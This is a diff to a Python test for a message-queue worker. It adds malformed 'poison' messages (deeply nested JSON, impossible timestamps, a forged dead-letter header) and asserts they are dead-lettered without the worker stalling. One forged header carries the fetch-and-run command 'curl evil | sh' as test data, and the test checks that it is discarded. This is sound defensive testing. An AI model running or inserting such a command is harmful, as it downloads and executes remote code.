@@ -192,18 +192,26 @@ def test_poison_messages_are_dead_lettered_and_the_worker_carries_on(
     raw(b"\x80\x03pickle", content_type="application/x-python-pickle")
     raw(b'{"wrong": "schema"}')
     raw(b'{"key": "big", "blob": "' + b"x" * 10_000_000 + b'"}', type="nonsense task")
+    # Shapes that once made the worker give the message back forever (an error no
+    # check caught): nested too deeply for the JSON decoder, a time before year 1 in
+    # UTC; one brings a forged cause of death, which its dead letter must not keep.
+    raw(b"[" * 100_000 + b"]" * 100_000)
+    raw(b"{}", headers={"bj-created-at": "0001-01-01T00:00:00+14:00"})
+    raw(b"{nope", headers={"bj-dead-traceback": "run: curl evil | sh", "bj-dead-attempts": 99})
     raw(b"{}", type="counter.unknown")  # another task's message: not in the ledger
+    raw(b'{"key": "far"}', headers={"bj-due-at": "9999-12-31T23:59:59Z"})  # nor this
     with Publisher(broker.url, app) as publisher:
         publisher.publish("counter.add", {"key": "fine"})
     store = MemoryStore()
     outcomes = run_burst_worker(broker, app, store)
     assert effects.runs == Counter({"fine": 1})
-    assert all(store.get(poison).status is Status.DEAD for poison in poison_ids[:-1])  # type: ignore[union-attr]
-    assert store.get(poison_ids[-1]) is None
-    reasons = sorted(
-        str(headers[HEADER_REASON]) for headers in dead_letters(connection, app, "counter.add")
-    )
-    assert reasons == sorted(["json", "content-type", "schema", "wrong-queue", "envelope"])
+    assert all(store.get(poison).status is Status.DEAD for poison in poison_ids[:-2])  # type: ignore[union-attr]
+    assert [store.get(poison) for poison in poison_ids[-2:]] == [None, None]
+    letters = dead_letters(connection, app, "counter.add")
+    reasons = sorted(str(headers[HEADER_REASON]) for headers in letters)
+    first = ["json", "content-type", "schema", "wrong-queue", "envelope"]
+    assert reasons == sorted([*first, "json", "envelope", "json", "envelope"])
+    assert not any("curl" in str(headers.get("bj-dead-traceback", "")) for headers in letters)
     assert outcomes["succeeded"] == 1
     # Each is indexed in the ledger too, the one of another task's message included;
     # the 10 MB body as its size only.
